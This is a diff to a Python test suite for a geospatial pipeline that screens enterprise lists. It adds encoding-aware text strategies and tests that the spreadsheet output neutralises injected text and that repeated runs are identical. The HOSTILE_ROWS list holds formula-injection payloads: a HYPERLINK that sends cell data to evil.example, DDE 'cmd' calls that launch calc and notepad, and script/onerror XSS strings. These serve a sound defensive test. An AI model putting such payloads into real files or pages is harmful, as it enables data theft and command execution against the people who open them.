@@ -410,6 +410,15 @@ text_cells = st.one_of(
     ),
     st.sampled_from(HOSTILE),
 )
+# text as inventories hold it: in a file that mixes encodings, line-by-line decoding relies on
+# UTF-8 lines reading like Chinese (arbitrary Unicode can be valid GB18030 as well)
+realistic_cells = st.one_of(
+    st.text(
+        alphabet=st.sampled_from(list("甲乙丙铸造厂焦化有限公司榆次区镇村，。、（）()-· Ab1")),
+        max_size=12,
+    ),
+    st.sampled_from(HOSTILE),
+)
 FULL_WIDTH = str.maketrans("0123456789.-", "０１２３４５６７８９．－")
 
 
@@ -436,6 +445,12 @@ def spell(value: float, style: str, axis: str) -> str:
 @st.composite
 def tables(draw):
     """(rows of cells, header index, per-row kinds, file options)."""
+    options = {
+        "encoding": draw(st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16", "mixed"])),
+        "delimiter": draw(st.sampled_from([",", ";", "\t"])),
+        "end": draw(st.sampled_from(["\r\n", "\n"])),
+    }
+    texts = realistic_cells if options["encoding"] == "mixed" else text_cells
     extras = draw(st.lists(st.sampled_from(EXTRA_HEADERS), max_size=3))
     header_keys = list(ALIASES) + [f"extra:{e}" for e in extras]
     order = draw(st.permutations(header_keys))
@@ -456,7 +471,7 @@ def tables(draw):
         )
         cells = {
             "id": f"R{i}" if draw(st.booleans()) else f" R{i} ",
-            "name": draw(text_cells),
+            "name": draw(texts),
             "industry": draw(st.sampled_from(INDUSTRY)),
             "compliant": draw(st.sampled_from(YESNO)),
             "lon": spell(lon, style, "lon"),
@@ -482,7 +497,7 @@ def tables(draw):
             cells["id"] = draw(st.sampled_from(earlier))
         elif kind == "unknown_code":
             cells["industry"] = "spaceship"
-        row = [cells.get(k, draw(text_cells)) for k in order]
+        row = [cells.get(k, draw(texts)) for k in order]
         if kind == "extra_cells":
             row += [*[""] * draw(st.integers(0, 2)), "surplus"]
         if kind == "blank":
@@ -491,12 +506,7 @@ def tables(draw):
         ids.append(cells["id"].strip())
         rows.append(row)
     title = draw(st.sampled_from([[], [["晋中市企业名单"]], [["名单", "", ""], []]]))
-    options = {
-        "encoding": draw(st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16", "mixed"])),
-        "delimiter": draw(st.sampled_from([",", ";", "\t"])),
-        "end": draw(st.sampled_from(["\r\n", "\n"])),
-        "gb_rows": draw(st.lists(st.booleans(), min_size=n, max_size=n)),
-    }
+    options["gb_rows"] = draw(st.lists(st.booleans(), min_size=n, max_size=n))
     return [*title, header, *rows], len(title), kinds, ids, options
 
 
@@ -678,3 +688,87 @@ def test_ragged_and_regular_files_give_the_same_rows(tmp_path):
         a.rejected.drop(columns="source"), b.rejected.drop(columns="source").iloc[:-1]
     )
     assert b.rejected["reason_code"].iloc[-1] == "extra_cells"
+
+
+# ---------------------------------------------------------------------------------------------
+# Hostile text through the whole pipeline, and repeatable runs
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE_ROWS = [
+    ("=1+1", '=HYPERLINK("http://evil.example/?q="&A1,"点击")', "@SUM(A1)"),
+    ("A2", "+cmd|' /C calc'!A0", "-2+3"),
+    ("A3", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C notepad'!A1"),
+    ("A4", "-2+3", "\t=1+1"),
+    ("A5", "<script>alert('x')</script>甲厂", "<b>镇</b>"),
+    ("A6", '<img src=x onerror="alert(1)">', "普通镇"),
+]
+
+
+def test_hostile_text_is_neutralised_in_the_lists_and_kept_in_the_gpkg(tmp_path, builtup_file):
+    from openpyxl import load_workbook
+
+    from spatial.config import RunConfig
+    from spatial.pipeline import run
+
+    lines = ["id,name,industry,county,township,policy_class,compliant,lon,lat"]
+    for id_, name, township in HOSTILE_ROWS:
+        cells = [id_, name, "foundry", "榆次区", township, "restricted", "yes", "112.75", "37.69"]
+        buffer = io.StringIO()
+        csv.writer(buffer, lineterminator="\r\n").writerow(cells)
+        lines.append(buffer.getvalue().rstrip("\r\n"))
+    path = tmp_path / "plants.csv"
+    path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
+    out = tmp_path / "out"
+    run(RunConfig(enterprises=path, builtup=builtup_file, out=out, figures=False))
+
+    workbook = load_workbook(out / "lists.xlsx")
+    texts = []
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+                    assert not cell.value.startswith(FORMULA_START), cell.value
+    for id_, name, township in HOSTILE_ROWS:
+        for value in (id_, name, township.strip()):  # contract text columns are trimmed
+            shown = "'" + value if value.startswith(FORMULA_START) else value
+            assert shown in texts, value  # listed, and neutralised where needed
+
+    stored = gpd.read_file(out / "screening.gpkg", layer="enterprises").set_index("id")
+    for id_, name, township in HOSTILE_ROWS:  # the data itself is kept as given
+        assert stored.loc[id_, "name"] == name and stored.loc[id_, "township"] == township.strip()
+    json.loads((out / "run.json").read_text(encoding="utf-8"))
+
+
+@pytest.mark.slow
+def test_the_same_inputs_give_the_same_decisions_in_the_same_order(tmp_path):
+    import datetime as dt
+
+    from openpyxl import load_workbook
+
+    from spatial.pipeline import demo_config, run
+
+    outs = [tmp_path / "a", tmp_path / "b"]
+    for out in outs:
+        run(demo_config(out, as_of=dt.date(2024, 12, 1), figures=False))
+    for layer in ("enterprises", "decisions", "rejected"):
+        a, b = (gpd.read_file(out / "screening.gpkg", layer=layer) for out in outs)
+        pd.testing.assert_frame_equal(a, b)
+        assert len(a) > 0
+    a, b = (gpd.read_file(out / "screening.gpkg", layer="enterprises") for out in outs)
+    assert a["id"].tolist() == b["id"].tolist()
+
+    def cells(path: Path) -> list:
+        workbook = load_workbook(path, read_only=True)
+        values = [
+            (sheet.title, [list(row) for row in sheet.iter_rows(values_only=True)])
+            for sheet in workbook.worksheets
+        ]
+        workbook.close()
+        return values
+
+    assert cells(outs[0] / "lists.xlsx") == cells(outs[1] / "lists.xlsx")
+    records = [json.loads((out / "run.json").read_text(encoding="utf-8")) for out in outs]
+    assert records[0]["counts"] == records[1]["counts"]
+    assert records[0]["policies"] == records[1]["policies"]
